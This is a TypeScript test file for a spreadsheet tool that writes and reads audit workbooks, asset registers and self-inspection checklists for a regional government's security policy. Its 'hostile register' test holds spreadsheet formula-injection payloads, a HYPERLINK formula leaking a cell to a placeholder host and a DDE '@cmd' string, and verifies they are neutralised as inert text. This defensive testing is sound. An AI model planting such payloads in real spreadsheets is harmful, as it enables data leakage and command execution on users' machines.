import { readFileSync } from "node:fs";
import { strFromU8, unzipSync } from "fflate";
import { buildAuditReport, gloss, type AssetSubject } from "@miyagi-kouiki/infosec-policy";
import { afterAll, describe, expect, it } from "vitest";
import { FINDINGS_HEADERS, openWorkbook, readChecklistAnswers, readRegister, writeAuditWorkbook, writeChecklistWorkbook, writeRegisterTemplate, ChecklistAnswersError } from "../src/index.js";
import { bytesOf, cellText, loadWithExcelJs, ROOT_CLI, run, SHEET_CLI, tempDir } from "./helpers.js";

const tmp = tempDir();
afterAll(() => tmp.remove());

const HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0", "=1+1", "\tタブ"];

describe("results .xlsx re-read equal the JSON report", () => {
  it("the findings sheet has one row per subject × failing or manual finding, with the register's row, provenance and status", async () => {
    const subjects: AssetSubject[] = [
      { kind: "asset", id: "S-1", name: "基幹サーバ", organization: "secretariat", category: "server", zone: "mynumber", classification: { confidentiality: 3, integrity: 2, availability: 2 }, safeguards: [] },
      { kind: "asset", id: "S-2", organization: "secretariat", category: "terminal" },
      { kind: "asset", id: "S-3", organization: { outside: "登米市" }, category: "terminal" },
    ];
    const report = buildAuditReport(subjects, { asOf: "2026-11-25" });
    const rows = [5, 9, 12];
    const workbook = await loadWithExcelJs(await writeAuditWorkbook(report, { rows }));
    expect(workbook.worksheets.map((w) => w.name)).toEqual(["概要", "指摘事項", "管理策別", "対象外"]);
    const findings = workbook.getWorksheet("指摘事項");
    if (findings === undefined) throw new Error("no findings sheet");
    expect(findings.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(findings.autoFilter).toBe(`A1:K${findings.rowCount}`);
    const read: string[][] = [];
    findings.eachRow((row, n) => {
      if (n > 1) read.push(Array.from({ length: FINDINGS_HEADERS.length }, (_, c) => cellText(row.getCell(c + 1).value)));
    });
    const expected = report.subjects.flatMap((s) =>
      s.findings.map((f) => [String(rows[s.index]), s.id ?? "", s.name ?? "", s.outcome, f.status, f.control, f.title, f.clause, f.provenance, f.reason, f.remediation ?? ""]),
    );
    expect(read.map((r) => [r[0], r[1], r[2], r[5], r[6], r[7], r[9], r[10]])).toEqual(expected.map((e) => [e[0], e[1], e[2], e[5], e[6], e[7], e[9], e[10]]));
    // Status, outcome and provenance are written as the library's bilingual labels of the same values.
    const label = (id: Parameters<typeof gloss>[0]) => `${gloss(id).ja} / ${gloss(id).en}`;
    read.forEach((r, i) => {
      const e = expected[i] as string[];
      expect([r[3], r[4], r[8]]).toEqual([label(`outcome.${e[3]}` as never), label(`status.${e[4]}` as never), label(`provenance.${e[8]}` as never)]);
    });
    // Fails are red, manual findings amber.
    const failRow = read.findIndex((r) => r[4] === label("status.fail")) + 2;
    const manualRow = read.findIndex((r) => r[4] === label("status.manual")) + 2;
    expect(failRow).toBeGreaterThan(1);
    expect(manualRow).toBeGreaterThan(1);
    expect(findings.getCell(`E${failRow}`).fill).toMatchObject({ fgColor: { argb: "FFF8CBAD" } });
    expect(findings.getCell(`E${manualRow}`).fill).toMatchObject({ fgColor: { argb: "FFFFE699" } });
    const summary = workbook.getWorksheet("概要");
    expect(cellText(summary?.getCell("A1").value ?? null)).toContain("自動判定");
    const out = workbook.getWorksheet("対象外");
    expect(cellText(out?.getCell("A2").value ?? null)).toBe("12");
  });
});

describe("a hostile register: formula cells and formula-like text", () => {
  it("reads a formula cell's saved result as text, and writes formula-like text back as inert text (xlsx and csv)", async () => {
    const ExcelJS = (await import("exceljs")).default;
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("台帳");
    sheet.getRow(1).values = ["資産番号", "資産名", "所管組織", "種別"];
    HOSTILE.forEach((text, i) => {
      sheet.getRow(i + 2).values = [`H-${i + 1}`, text, "広域連合事務局", "サーバ"];
    });
    // A real formula cell, as Excel saves it: the formula and its cached result.
    sheet.getCell("A8").value = { formula: 'HYPERLINK("http://example.invalid","H-7")', result: "=H-7" };
    sheet.getRow(8).getCell(2).value = "リンク";
    sheet.getRow(8).getCell(3).value = "広域連合事務局";
    sheet.getRow(8).getCell(4).value = "サーバ";
    const read = await readRegister(await bytesOf(workbook), { fileName: "hostile.xlsx" });
    expect(read.issues).toEqual([]);
    expect(read.subjects.map((s) => s.name)).toEqual([...HOSTILE.map((t) => t.trim()), "リンク"]);
    expect(read.subjects[6]?.id).toBe("=H-7");

    const report = buildAuditReport(read.subjects);
    const bytes = await writeAuditWorkbook(report, { rows: read.rows });
    // No formula anywhere in the findings sheet: every cell is a shared string or a number, and
    // each formula-like text has Excel's quote prefix (it stays text when a clerk edits it).
    const files = unzipSync(bytes);
    const findingsXml = strFromU8(files["xl/worksheets/sheet2.xml"] as Uint8Array);
    expect(findingsXml).not.toContain("<f>");
    const opened = openWorkbook(bytes);
    const texts = [...opened.rows("指摘事項")].flatMap((r) => r.cells.map((c) => c?.text ?? ""));
    for (const text of ["=H-7", ...HOSTILE.map((t) => t.trim())]) expect(texts).toContain(text);
    const styles = strFromU8(files["xl/styles.xml"] as Uint8Array);
    const xfs = [...styles.slice(styles.indexOf("<cellXfs")).matchAll(/<xf [^>]*>/gu)].map((m) => m[0]);
    const sst = [...strFromU8(files["xl/sharedStrings.xml"] as Uint8Array).matchAll(/<si><t xml:space="preserve">([\s\S]*?)<\/t><\/si>/gu)].map((m) => m[1] ?? "");
    const cells = [...findingsXml.matchAll(/<c r="[A-Z]+\d+"(?: s="(\d+)")? t="s"><v>(\d+)<\/v><\/c>/gu)].map((m) => ({ style: Number(m[1] ?? 0), text: sst[Number(m[2])] ?? "" }));
    const formulaLike = cells.filter((c) => /^(?:=|\+|-|@|_x0009_)/u.test(c.text));
    expect(formulaLike.length).toBeGreaterThanOrEqual(HOSTILE.length);
    for (const cell of formulaLike) expect(xfs[cell.style]).toContain('quotePrefix="1"');
    const excel = await loadWithExcelJs(bytes);
    excel.getWorksheet("指摘事項")?.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
      });
    });

    // The CSV template writer neutralises them with a leading ' (and the reader takes it off).
    const csv = new TextDecoder().decode(await writeRegisterTemplate({ format: "csv", subjects: read.subjects }));
    for (const line of csv.split("\r\n").slice(1, -1)) expect(line.split(",")[1]).not.toMatch(/^[=+\-@]/u);
    expect(csv).toContain("'=HYPERLINK(");
    expect((await readRegister(new TextEncoder().encode(csv), { format: "csv" })).subjects).toEqual(read.subjects);
  });
});

describe("the self-inspection sheet: checklist .xlsx → answered → check equals the JSON answers path", () => {
  it("writes one row per question with validation, protection and formulas, and reads the answers back", async () => {
    const bytes = await writeChecklistWorkbook({ organization: "assembly-secretariat" });
    const workbook = await loadWithExcelJs(bytes);
    const sheet = workbook.getWorksheet("自己点検");
    if (sheet === undefined) throw new Error("no sheet");
    expect((sheet as unknown as { sheetProtection?: unknown }).sheetProtection).toBeTruthy();
    const ids: string[] = [];
    sheet.eachRow((row, n) => {
      if (n >= 10) ids.push(cellText(row.getCell(2).value));
    });
    const { checklistSections } = await import("@miyagi-kouiki/infosec-policy");
    expect(ids).toEqual(checklistSections().questions.map((q) => q.id));
    const answerOf: Record<string, unknown> = {
      securityOrganizationEstablished: "はい",
      staffCategoriesBound: "会計年度任用職員及び非常勤職員以外の職員、会計年度任用職員",
      staffRulesDefined: "いいえ",
      lastTraining: new Date(Date.UTC(2026, 5, 15)),
      lastAudit: "実施なし",
      lastSelfInspection: "2025/11/20",
      monitoringInPlace: "不明",
    };
    sheet.eachRow((row, n) => {
      if (n < 10) return;
      const answer = answerOf[cellText(row.getCell(2).value)];
      if (answer !== undefined) row.getCell(5).value = answer as string;
    });
    expect(sheet.getCell("E10").protection).toMatchObject({ locked: false });
    expect(sheet.getCell("B8").formula).toMatch(/^COUNTBLANK\(E10:E\d+\)$/u);
    expect((sheet as unknown as { dataValidations: { model: Record<string, unknown> } }).dataValidations.model.E11).toMatchObject({ type: "list", formulae: ['"はい,いいえ,不明"'] });
    sheet.getCell("B5").value = new Date(Date.UTC(2026, 10, 25));
    sheet.getCell("B6").value = "総務課長";
    const filled = await bytesOf(workbook);
    const answers = await readChecklistAnswers(filled);
    const expectedAnswers = {
      checklist: "self-inspection",
      organization: "assembly-secretariat",
      asOf: "2026-11-25",
      respondent: "総務課長",
      policy: "miyagi-kouiki-basic-policy 1.0.0",
      answers: {
        securityOrganizationEstablished: "yes",
        staffCategoriesBound: ["regular", "fiscal-year-appointed"],
        staffRulesDefined: "no",
        lastTraining: "2026-06-15",
        lastAudit: "never",
        lastSelfInspection: "2025-11-20",
        monitoringInPlace: "unknown",
      },
    };
    expect(answers).toEqual(expectedAnswers);

    const json = tmp.file("answers.json", JSON.stringify(expectedAnswers));
    const xlsx = tmp.file("answers.xlsx", filled);
    const viaJson = run(ROOT_CLI, ["check", json, "--format", "json"]);
    const viaSheet = run(SHEET_CLI, ["check", xlsx, "--format", "json"]);
    expect(viaSheet.stderr).toBe("");
    expect(viaSheet.status).toBe(viaJson.status);
    expect(JSON.parse(viaSheet.stdout)).toEqual(JSON.parse(viaJson.stdout));
    const text = run(SHEET_CLI, ["check", xlsx]);
    // No audit ever (実施なし): the audit control fails, shown with its clause and provenance.
    expect(text.stdout).toMatch(/✗ \[8・/u);
  });

  it("an answer that cannot be read is reported with its cell; a blank answer is unknown, never no", async () => {
    const workbook = await loadWithExcelJs(await writeChecklistWorkbook({ organization: "secretariat" }));
    const sheet = workbook.getWorksheet("自己点検");
    if (sheet === undefined) throw new Error("no sheet");
    sheet.getCell("E11").value = "たぶん";
    sheet.getCell("E13").value = "先月";
    await expect(readChecklistAnswers(await bytesOf(workbook), { fileName: "a.xlsx" })).rejects.toThrow(ChecklistAnswersError);
    try {
      await readChecklistAnswers(await bytesOf(workbook), { fileName: "a.xlsx" });
    } catch (error) {
      const issues = (error as ChecklistAnswersError).issues;
      expect(issues.map((i) => `${i.column}${i.row}=${i.value}`)).toEqual(["E11=たぶん", "E13=先月"]);
      expect(issues[0]?.allowed).toEqual(["はい", "いいえ", "不明"]);
    }
    const blank = await readChecklistAnswers(await writeChecklistWorkbook({ organization: "secretariat" }));
    expect(blank.answers).toEqual({});
  });
});

describe("the CLI writes the files", () => {
  it("template inventory, checklist and audit --format xlsx write .xlsx files; a binary is never written to a terminal", () => {
    const template = tmp.file("template.xlsx");
    expect(run(SHEET_CLI, ["template", "inventory", "--format", "xlsx", "--output", template]).status).toBe(0);
    expect(openWorkbook(new Uint8Array(readFileSync(template))).sheets.map((s) => s.name)).toEqual(["情報資産台帳", "記入方法"]);
    const csv = run(SHEET_CLI, ["template", "inventory", "--format", "csv"]);
    expect(csv.stdout.startsWith("\uFEFF資産番号,")).toBe(true);
    expect(run(SHEET_CLI, ["template", "inventory", "--format", "pdf"]).status).toBe(64);
    expect(run(SHEET_CLI, ["audit"]).status).toBe(64);
  });

  it("the library's own CLI, given a spreadsheet, names this command instead of misreading it as JSON", () => {
    const template = tmp.file("given.xlsx");
    run(SHEET_CLI, ["template", "inventory", "--format", "xlsx", "--output", template]);
    for (const command of [["audit", template], ["check", template], ["export", "oscal-results", template]]) {
      const result = run(ROOT_CLI, command);
      expect(result.status).toBe(64);
      expect(result.stderr).toContain("infosec-policy-sheet");
    }
  });
});
